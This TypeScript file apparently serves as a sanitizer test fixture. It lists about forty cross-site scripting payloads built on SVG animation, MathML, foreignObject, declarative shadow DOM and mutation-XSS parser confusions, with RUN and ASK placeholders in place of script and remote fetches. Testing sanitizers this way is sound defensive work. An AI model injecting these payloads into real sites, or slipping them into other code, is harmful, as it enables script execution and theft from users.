/** SVG and MathML, and markup that becomes something else when it is read a second time. */
export const drawings = {
  'an animated address':
    '<svg><a><animate attributeName=href values=javascript:RUN /><text y=9>any</text></a></svg>',
  'an address that is set':
    '<svg><a><set attributeName=href to=javascript:RUN /><text y=9>any</text></a></svg>',
  'an animation that begins': '<svg><animate onbegin=RUN attributeName=x dur=1s></svg>',
  'an animation that ends': '<svg><animate onend=RUN attributeName=x dur=1ms></svg>',
  'an animated handler': '<svg><set attributeName=onmouseover to=RUN /><text y=9>any</text></svg>',
  'a movement that begins': '<svg><animateMotion onbegin=RUN dur=1s path="M0,0"></svg>',
  'a turn that begins': '<svg><animateTransform onbegin=RUN attributeName=transform dur=1s></svg>',
  'a discarded element': '<svg><discard onbegin=RUN></svg>',
  'a shape used from a page':
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=RUN>#x"></svg>',
  'a shape used from elsewhere': '<svg><use href="ASK#x"></use></svg>',
  'a picture in a drawing': '<svg><image href="ASK"></image></svg>',
  'a picture in a drawing, by its old name': '<svg><image xlink:href="ASK"></image></svg>',
  'a picture in a filter':
    '<svg><filter id=f><feImage href="ASK"></feImage></filter><rect width=9 height=9 filter=url(#f)></svg>',
  'a filter from elsewhere':
    '<svg><rect width=9 height=9 filter="url(ASK#f)" mask="url(ASK#m)"></svg>',
  'a link in a drawing': '<svg><a xlink:href="javascript:RUN"><text y=9>any</text></a></svg>',
  'HTML in a drawing': '<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>',
  'a frame in a drawing':
    '<svg><foreignObject><iframe srcdoc="<script>RUN</script>"></iframe></foreignObject></svg>',
  'a style in a drawing': '<svg><style>@import "ASK";</style></svg>',
  'HTML in the title of a drawing': '<svg><title><img src=x onerror=RUN></title></svg>',
  'HTML in the description of a drawing': '<svg><desc><img src=x onerror=RUN></desc></svg>',
  'a CDATA section in a drawing': '<svg><![CDATA[><img src=x onerror=RUN>]]></svg>',
  'a handler in a drawing': '<svg><handler type="text/javascript">RUN</handler></svg>',
  'a drawing in a data address': '<embed src="data:image/svg+xml,<svg onload=RUN>">',
  'a formula that is a link': '<math href="javascript:RUN"><mi>any</mi></math>',
  'a formula with an action':
    '<math><maction actiontype="statusline#ASK" href="javascript:RUN">any<mtext>any</maction></math>',
  'a formula with HTML as a note':
    '<math><annotation-xml encoding="text/html"><img src=x onerror=RUN></annotation-xml></math>',
  'a formula with HTML as a text': '<math><mtext><img src=x onerror=RUN></mtext></math>',
  'a formula that is read otherwise the second time':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">',
  'a form that is read otherwise the second time':
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>',
  'a drawing that is read otherwise the second time':
    '<svg></p><style><a id="</style><img src=x onerror=RUN>">',
  'a title that is read otherwise without scripts':
    '<noscript><p title="</noscript><img src=x onerror=RUN>">',
  'a style that is read otherwise in a drawing':
    '<svg><style><img title="</style><img src=x onerror=RUN>">',
  'a template that is read otherwise': '<template><p title="</template><img src=x onerror=RUN>">',
  'a text field that is read otherwise': '<textarea title="</textarea><img src=x onerror=RUN>">',
  'an image that a table throws out': '<table><img src=x onerror=RUN><tr><td>any</table>',
  'a link in a link': '<a href="#x"><a href="javascript:RUN">any</a></a>',
  'a list that never ends': `${'<ul><li>'.repeat(40)}<img src=x onerror=RUN>`,
  'a shadow that is declared':
    '<b><template shadowrootmode="open"><img src=x onerror=RUN></template></b>',
  'an element that is another': '<p is="x-any" onclick=RUN>any</p>',
  'an element of another namespace':
    '<html:script xmlns:html="http://www.w3.org/1999/xhtml">RUN</html:script>',
} as const;
